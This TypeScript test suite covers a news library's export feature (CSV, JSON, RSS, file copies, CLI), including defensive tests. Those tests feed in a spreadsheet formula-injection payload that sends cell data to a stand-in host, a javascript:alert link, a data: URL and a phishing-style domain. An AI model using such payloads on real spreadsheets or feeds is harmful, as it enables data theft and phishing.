import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { exportApproved, type ExportOptions } from '../../main/core/export.js';
import { planExport } from '../../main/core/export-plan.js';
import { removeStaleExports } from '../../main/core/export-destination.js';
import { CSV_COLUMNS, type ExportFormat } from '../../main/core/export-formats.js';
import { Library } from '../../main/core/library.js';
import { runCli } from '../../main/cli/masthead.js';
import { tempDir } from '../helpers/corpora.js';

const SEEDS = fileURLToPath(new URL('../../seeds', import.meta.url));
const SEED_ID = '000_8a8d1d44de5d8be9.txt';
const NOW = new Date('2024-05-01T12:00:00Z');
let work: { dir: string; cleanup: () => void };
let lib: string;
let library: Library;

/** The approved set and its neighbours, with text that breaks naive writers. */
const ARTICLES: Record<string, string> = {
  'world/quotes.md':
    '---\ntitle: "Mayor says \\"no\\", then \\"yes\\"; council, confused"\nexcerpt: "Line one\\nline two, with a comma & <angle> brackets"\npublishedDateTime: 2022-07-06T08:00:00Z\nprovider:\n  name: Le Monde\n  domain: lemonde.fr\nwebUrl: "https://www.lemonde.fr/a?x=1&y=2"\npublished: true\ntopics: [Politics, "Économie"]\nsecured: "tok=="\n---\n',
  'world/cafe.md': '---\ntitle: Café culture returns — to Zürich\npublishedDateTime: 2022-07-06T08:00:00Z\npublished: true\ntopics:\n  - Food\n---\n',
  'warned.md': '---\ntitle: Approved but odd\npublishedDateTime: not a date\npublished: true\n---\n',
  'draft.md': '---\ntitle: Not approved\npublishedDateTime: 2023-01-01T00:00:00Z\npublished: false\n---\n',
  'broken.md': '---\ntitle: "Unclosed\npublished: true\n---\n',
  'broken-draft.md': '---\ntitle: "Unclosed\npublished: false\n---\n',
};

beforeEach(async () => {
  work = tempDir();
  lib = join(work.dir, 'library');
  cpSync(SEEDS, lib, { recursive: true });
  for (const [id, text] of Object.entries(ARTICLES)) {
    mkdirSync(join(lib, id, '..'), { recursive: true });
    writeFileSync(join(lib, id), text);
  }
  // Approve the seed too, so the set spans dates and folders.
  writeFileSync(join(lib, SEED_ID), readFileSync(join(SEEDS, SEED_ID), 'utf8').replace('published: false', 'published: true'));
  const opened = await Library.open(lib);
  if (!opened.ok) throw new Error(opened.error.message);
  library = opened.value;
});
afterEach(() => work.cleanup());

const exportTo = (format: ExportFormat, name: string, extra: Partial<ExportOptions> = {}) =>
  exportApproved(library, { format, out: join(work.dir, name), now: NOW, ...extra });

const EXPECTED_ORDER = ['world/cafe.md', 'world/quotes.md', SEED_ID, 'warned.md'];

/** Every file under a folder with its bytes, for comparing trees. */
function tree(dir: string): Record<string, string> {
  return Object.fromEntries(
    readdirSync(dir, { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile())
      .map((e) => join(e.parentPath, e.name))
      .sort()
      .map((path) => [path.slice(dir.length), readFileSync(path).toString('base64')]),
  );
}

describe('what is exported', () => {
  test('the approved set, newest first then by id, with the held-back articles and their reasons', async () => {
    const result = await exportTo('json', 'out.json');
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value).toMatchObject({ count: 4, withWarnings: 1 });
    expect(result.value.heldBack).toEqual([{ id: 'broken.md', title: 'broken.md', reason: expect.stringMatching(/^line \d+, column \d+: YAML syntax/) }]);
    const records = JSON.parse(readFileSync(join(work.dir, 'out.json'), 'utf8')) as { id: string }[];
    expect(records.map((r) => r.id)).toEqual(EXPECTED_ORDER);
  });

  test('only the approved part of a filter', async () => {
    const result = await exportTo('jsonl', 'food.jsonl', { query: { topic: 'food' } });
    expect(result.ok && result.value.count).toBe(1);
    expect(readFileSync(join(work.dir, 'food.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l).id)).toEqual(['world/cafe.md']);
  });

  test.each([
    { status: 'all', exported: EXPECTED_ORDER, heldBack: ['broken.md'] },
    { status: 'published', exported: EXPECTED_ORDER, heldBack: ['broken.md'] },
    // The approved part of the drafts is nothing.
    { status: 'unpublished', exported: [], heldBack: [] },
    // The approved part of the articles with problems: those with warnings go, those with errors are held back.
    { status: 'problems', exported: ['warned.md'], heldBack: ['broken.md'] },
  ] as const)('the approved part of the $status filter', async ({ status, exported, heldBack }) => {
    const plan = await planExport(library, { status });
    expect(plan.articles.map((a) => a.id)).toEqual(exported);
    expect(plan.heldBack.map((a) => a.id)).toEqual(heldBack);
    expect(plan.withWarnings).toBe(status === 'unpublished' ? 0 : 1);
  });
});

describe('formats, read back by real readers', () => {
  test('files: byte-identical copies and a manifest with the right hashes', async () => {
    const result = await exportTo('files', 'site');
    expect(result.ok).toBe(true);
    const manifest = JSON.parse(readFileSync(join(work.dir, 'site', 'manifest.json'), 'utf8'));
    expect(manifest).toMatchObject({ format: 'masthead-export', version: 1, exportedAt: NOW.toISOString(), library: 'library', count: 4 });
    expect(manifest.articles.map((a: { id: string }) => a.id)).toEqual(EXPECTED_ORDER);
    for (const entry of manifest.articles as { id: string; sha256: string }[]) {
      const copy = readFileSync(join(work.dir, 'site', entry.id));
      expect(copy.equals(readFileSync(join(lib, entry.id))), entry.id).toBe(true);
      expect(createHash('sha256').update(copy).digest('hex')).toBe(entry.sha256);
    }
    expect(existsSync(join(work.dir, 'site', 'draft.md'))).toBe(false);
    expect(existsSync(join(work.dir, 'site', 'broken.md'))).toBe(false);
  });

  test('json and jsonl: normalized records, unknown fields under their own names', async () => {
    await exportTo('json', 'a.json');
    await exportTo('jsonl', 'a.jsonl');
    const json = JSON.parse(readFileSync(join(work.dir, 'a.json'), 'utf8'));
    const lines = readFileSync(join(work.dir, 'a.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
    expect(lines).toEqual(json);
    expect(json[1]).toMatchObject({
      id: 'world/quotes.md',
      title: 'Mayor says "no", then "yes"; council, confused',
      excerpt: 'Line one\nline two, with a comma & <angle> brackets',
      publishedDateTime: '2022-07-06T08:00:00Z',
      provider: { name: 'Le Monde', domain: 'lemonde.fr' },
      published: true,
      topics: ['Politics', 'Économie'],
      secured: 'tok==',
    });
    expect(json[2].related).toHaveLength(3);
  });

  test('csv: a CSV reader gets back quotes, commas, line breaks and non-ASCII', async () => {
    await exportTo('csv', 'a.csv');
    const text = readFileSync(join(work.dir, 'a.csv'), 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(false);
    expect(text).toContain('\r\n');
    const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r.id)).toEqual(EXPECTED_ORDER);
    expect(rows[0]).toMatchObject({ title: 'Café culture returns — to Zürich', topics: 'Food' });
    expect(rows[1]).toMatchObject({
      title: 'Mayor says "no", then "yes"; council, confused',
      excerpt: 'Line one\nline two, with a comma & <angle> brackets',
      topics: 'Politics; Économie',
      provider: 'Le Monde',
    });
    await exportTo('csv', 'b.csv', { csvBom: true });
    expect(readFileSync(join(work.dir, 'b.csv'), 'utf8').startsWith('\uFEFF')).toBe(true);
  });

  test('csv: text a spreadsheet would run as a formula is marked as text; numbers are not', async () => {
    writeFileSync(
      join(lib, 'formula.md'),
      '---\ntitle: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Click\\")"\nexcerpt: "+1 for the mayor"\nprovider:\n  name: "@newsdesk"\n  domain: "-cmd.example"\nheat: -3\npublished: true\n---\n',
    );
    await library.refresh('formula.md');
    await exportTo('csv', 'f.csv');
    const rows = parseCsv(readFileSync(join(work.dir, 'f.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.id === 'formula.md')).toMatchObject({
      title: '\'=HYPERLINK("https://evil.example/?"&A1, "Click")',
      excerpt: "'+1 for the mayor",
      provider: "'@newsdesk",
      providerDomain: "'-cmd.example",
      heat: '-3',
    });
    // Ordinary text is untouched.
    expect(rows.find((r) => r.id === 'world/cafe.md')).toMatchObject({ title: 'Café culture returns — to Zürich' });
  });

  test('rss: an XML parser reads a valid RSS 2.0 feed with every item', async () => {
    await exportTo('rss', 'feed.xml', { channel: { title: 'Tech & Policy <daily>', link: 'https://news.example/' } });
    const xml = readFileSync(join(work.dir, 'feed.xml'), 'utf8');
    const feed = new XMLParser({ ignoreAttributes: false, isArray: (name) => name === 'item' || name === 'category' }).parse(xml);
    expect(feed.rss['@_version']).toBe('2.0');
    const channel = feed.rss.channel;
    expect(channel).toMatchObject({ title: 'Tech & Policy <daily>', link: 'https://news.example/', lastBuildDate: 'Wed, 01 May 2024 12:00:00 GMT' });
    expect(channel.item.map((i: { title: string }) => i.title)).toEqual([
      'Café culture returns — to Zürich',
      'Mayor says "no", then "yes"; council, confused',
      'Microsoft Drops Emotion Recognition as Facial Analysis Concerns Grow',
      'Approved but odd',
    ]);
    const quotes = channel.item[1];
    expect(quotes).toMatchObject({
      link: 'https://www.lemonde.fr/a?x=1&y=2',
      description: 'Line one\nline two, with a comma & <angle> brackets',
      pubDate: 'Wed, 06 Jul 2022 08:00:00 GMT',
      category: ['Politics', 'Économie'],
      source: { '#text': 'Le Monde', '@_url': 'https://lemonde.fr/' },
      guid: { '#text': 'https://www.lemonde.fr/a?x=1&y=2', '@_isPermaLink': 'true' },
    });
    expect(channel.item[3].guid).toEqual({ '#text': 'warned.md', '@_isPermaLink': 'false' });
    expect(channel.item[3].pubDate).toBeUndefined();
  });

  test('rss: characters XML forbids, put in by YAML escapes, are left out or shown as U+FFFD', async () => {
    // "\v", "\x01", "\0", a lone surrogate and U+FFFE: a feed holding any of them is not XML, and readers refuse it whole.
    writeFileSync(join(lib, 'escapes.md'), '---\ntitle: "Tab\\vbed \\x01 title \\ud800 \\uFFFE"\nexcerpt: "a\\0b"\ntopics: ["t\\x1f"]\npublished: true\n---\n');
    await library.refresh('escapes.md');
    await exportTo('rss', 'escapes.xml');
    const xml = readFileSync(join(work.dir, 'escapes.xml'), 'utf8');
    // The XML 1.0 Char production, by code point: a lone surrogate is one too.
    expect(xml).not.toMatch(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u);
    const items = new XMLParser({ isArray: (name) => name === 'item' }).parse(xml).rss.channel.item as Record<string, unknown>[];
    expect(items.find((i) => String(i.title).startsWith('Tab'))).toMatchObject({ title: 'Tabbed  title \uFFFD \uFFFD', description: 'ab', category: 't' });
  });

  test('rss: only web links go into the feed', async () => {
    writeFileSync(
      join(lib, 'script.md'),
      '---\ntitle: Scripted\nwebUrl: "javascript:alert(1)"\noriginalUrl: "https://origin.example/story"\nprovider:\n  name: Origin\n  domain: "evil.example/phish?x="\npublished: true\n---\n',
    );
    writeFileSync(join(lib, 'nolink.md'), '---\ntitle: No link\nwebUrl: "data:text/html,<b>x</b>"\npublished: true\n---\n');
    await library.refresh('script.md');
    await library.refresh('nolink.md');
    await exportTo('rss', 'links.xml');
    const xml = readFileSync(join(work.dir, 'links.xml'), 'utf8');
    expect(xml).not.toMatch(/javascript:|data:text|phish/);
    const items = new XMLParser({ ignoreAttributes: false, isArray: (name) => name === 'item' }).parse(xml).rss.channel.item as Record<string, unknown>[];
    expect(items.find((i) => i.title === 'Scripted')).toMatchObject({
      link: 'https://origin.example/story',
      source: { '#text': 'Origin', '@_url': 'https://origin.example' },
      guid: { '#text': 'https://origin.example/story', '@_isPermaLink': 'true' },
    });
    const bare = items.find((i) => i.title === 'No link')!;
    expect(bare.link).toBeUndefined();
    expect(bare.guid).toEqual({ '#text': 'nolink.md', '@_isPermaLink': 'false' });
  });
});

describe('exports are atomic and repeatable', () => {
  test.each(['files', 'json', 'jsonl', 'csv', 'rss'] as const)('two %s exports of the same library are byte-identical', async (format) => {
    await exportTo(format, 'one');
    await exportTo(format, 'two');
    if (format === 'files') expect(tree(join(work.dir, 'two'))).toEqual(tree(join(work.dir, 'one')));
    else expect(readFileSync(join(work.dir, 'two')).equals(readFileSync(join(work.dir, 'one')))).toBe(true);
  });

  test('an export cancelled half-way leaves the previous export exactly as it was', async () => {
    expect((await exportTo('files', 'site')).ok).toBe(true);
    const before = tree(join(work.dir, 'site'));
    writeFileSync(join(lib, 'draft.md'), ARTICLES['draft.md']!.replace('published: false', 'published: true'));
    await library.refresh('draft.md');
    const controller = new AbortController();
    const result = await exportTo('files', 'site', { signal: controller.signal, onProgress: (done) => done === 2 && controller.abort() });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error.message).toMatch(/destination is unchanged/);
    expect(tree(join(work.dir, 'site'))).toEqual(before);
    expect(readdirSync(work.dir).sort()).toEqual(['library', 'site']);
  });

  test('what an export cut short by a crash left beside its destination is removed once an hour old; nothing else is', async () => {
    const leftovers = {
      stale: '.site.masthead-0123456789ab.tmp',
      staleAside: '.site.masthead-previous-ba9876543210',
      otherDestination: '.photos.masthead-0123456789ab.tmp',
      notOurs: '.site.masthead-notes.tmp',
    };
    for (const name of Object.values(leftovers)) {
      mkdirSync(join(work.dir, name));
      writeFileSync(join(work.dir, name, 'a.md'), 'x');
    }
    const out = join(work.dir, 'site');
    // Just made: an export to here may be in flight in another Masthead, so each is left.
    expect(await removeStaleExports(out)).toBe(0);
    expect((await exportTo('files', 'site')).ok).toBe(true);
    expect(readdirSync(work.dir).filter((n) => n.startsWith('.')).sort()).toEqual([leftovers.stale, leftovers.staleAside, leftovers.otherDestination, leftovers.notOurs].sort());
    // An hour on: this destination's two go, whole; the others stay.
    expect(await removeStaleExports(out, Date.now() + 61 * 60_000)).toBe(2);
    expect(readdirSync(work.dir).filter((n) => n.startsWith('.')).sort()).toEqual([leftovers.otherDestination, leftovers.notOurs].sort());
  });

  test('an export that fails on a vanished file leaves the previous one and no temp files', async () => {
    expect((await exportTo('json', 'out.json')).ok).toBe(true);
    const before = readFileSync(join(work.dir, 'out.json'));
    unlinkSync(join(lib, 'warned.md')); // still in the index (no watcher here), gone from the disk
    const result = await exportTo('json', 'out.json');
    expect(result.ok).toBe(false);
    expect(readFileSync(join(work.dir, 'out.json')).equals(before)).toBe(true);
    expect(readdirSync(work.dir).sort()).toEqual(['library', 'out.json']);
  });

  test('an approved file that can no longer be read (grown past what an article may be) is held back, and the rest exported', async () => {
    await library.checked;
    writeFileSync(join(lib, 'warned.md'), `---\ntitle: Approved but odd\npublished: true\nexcerpt: "${'x'.repeat(17 * 1024 * 1024)}"\n---\n`);
    const result = await exportTo('json', 'out.json');
    expect(result.ok && result.value.heldBack.map((h) => h.id)).toEqual(['broken.md', 'warned.md']);
    expect(JSON.parse(readFileSync(join(work.dir, 'out.json'), 'utf8')).map((a: { id: string }) => a.id)).toEqual(EXPECTED_ORDER.filter((id) => id !== 'warned.md'));
  });

  test('a destination that is not a previous export is refused unless forced', async () => {
    mkdirSync(join(work.dir, 'photos'));
    writeFileSync(join(work.dir, 'photos', 'holiday.jpg'), 'not an export');
    writeFileSync(join(work.dir, 'notes.csv'), 'my,own\r\nnotes,here\r\n');
    const refused = await exportTo('files', 'photos');
    expect(!refused.ok && refused.error.kind).toBe('conflict');
    expect(readFileSync(join(work.dir, 'photos', 'holiday.jpg'), 'utf8')).toBe('not an export');
    expect((await exportTo('csv', 'notes.csv')).ok).toBe(false);
    expect((await exportTo('files', 'photos', { force: true })).ok).toBe(true);
    expect(existsSync(join(work.dir, 'photos', 'holiday.jpg'))).toBe(false);
    expect(existsSync(join(work.dir, 'photos', 'manifest.json'))).toBe(true);
  });

  test('the library itself, a folder holding it, or a place inside it is refused, forced or not, and nothing is touched', async () => {
    const files = (): Record<string, string> => tree(work.dir);
    const before = files();
    symlinkSync(lib, join(work.dir, 'link-to-library'));
    const linked = files();
    const cases: [string, ExportFormat, RegExp][] = [
      ['library', 'files', /holds the library/],
      ['library', 'json', /holds the library/],
      ['.', 'files', /holds the library/],
      ['link-to-library', 'csv', /holds the library/],
      ['library/exports', 'files', /inside the library/],
      ['library/world/feed.xml', 'rss', /inside the library/],
      ['link-to-library/out.json', 'json', /inside the library/],
    ];
    for (const [out, format, why] of cases) {
      const result = await exportTo(format, out, { force: true });
      expect(result, out).toEqual({ ok: false, error: { kind: 'bad-request', message: expect.stringMatching(why) } });
    }
    expect(files()).toEqual(linked);
    unlinkSync(join(work.dir, 'link-to-library'));
    expect(files()).toEqual(before);
    // Beside it is fine.
    expect((await exportTo('files', 'library-exports/approved')).ok).toBe(true);
  });

  test('a previous export of each format is recognised and replaced', async () => {
    for (const format of ['files', 'json', 'jsonl', 'csv', 'rss'] as const) {
      expect((await exportTo(format, `again.${format}`)).ok).toBe(true);
      expect((await exportTo(format, `again.${format}`)).ok, format).toBe(true);
    }
  });
});

describe('masthead export', () => {
  const cli = async (...argv: string[]) => {
    let out = '';
    let err = '';
    const code = await runCli(argv, { out: (t) => (out += t), err: (t) => (err += t) });
    return { code, out, err };
  };

  test('prints what it wrote and what it held back; exit 1 when it held some back', async () => {
    const r = await cli('export', lib, '--out', join(work.dir, 'site'), '--now', NOW.toISOString());
    expect(r.code).toBe(1);
    expect(r.out).toContain(`Exported 4 approved articles (1 with warnings) as files to ${join(work.dir, 'site')}`);
    expect(r.err).toMatch(/held back broken\.md: line \d+/);
  });

  test('exit 0 when everything approved was exported; SOURCE_DATE_EPOCH fixes the timestamp', async () => {
    rmSync(join(lib, 'broken.md'));
    process.env.SOURCE_DATE_EPOCH = '1714564800';
    try {
      const r = await cli('export', lib, '--out', join(work.dir, 'feed.xml'), '--format', 'rss', '--channel-link', 'https://news.example/');
      expect(r).toMatchObject({ code: 0, err: '' });
    } finally {
      delete process.env.SOURCE_DATE_EPOCH;
    }
    expect(readFileSync(join(work.dir, 'feed.xml'), 'utf8')).toContain('<lastBuildDate>Wed, 01 May 2024 12:00:00 GMT</lastBuildDate>');
  });

  test('the filters narrow it: a provider, and the days of a date range (wide enough for any time zone)', async () => {
    const r = await cli('export', lib, '--out', join(work.dir, 'july.jsonl'), '--format', 'jsonl', '--from', '2022-07-05', '--to', '2022-07-07', '--provider', 'le monde', '--now', NOW.toISOString());
    expect(r).toMatchObject({ code: 0, out: expect.stringContaining('Exported 1 approved article as jsonl') });
    expect(readFileSync(join(work.dir, 'july.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l).id)).toEqual(['world/quotes.md']);
  });

  test('a destination inside the library, or the library itself even with --force, exits 2 and writes nothing', async () => {
    const before = tree(lib);
    const inside = await cli('export', lib, '--out', join(lib, 'exports'));
    expect(inside).toMatchObject({ code: 2, out: '', err: expect.stringMatching(/^masthead: exports is inside the library/) });
    const itself = await cli('export', lib, '--out', lib, '--force');
    expect(itself).toMatchObject({ code: 2, out: '', err: expect.stringMatching(/^masthead: library holds the library itself/) });
    expect(tree(lib)).toEqual(before);
  });

  test.each([
    { args: ['export', 'dir'], why: /needs a folder and --out/ },
    { args: ['export', 'dir', '--out', 'x', '--format', 'pdf'], why: /--format must be one of/ },
    { args: ['export', 'dir', '--out', 'x', '--now', 'yesterday'], why: /--now must be a date/ },
  ])('bad usage exits 2: $args', async ({ args, why }) => {
    const r = await cli(...args);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(why);
  });
});
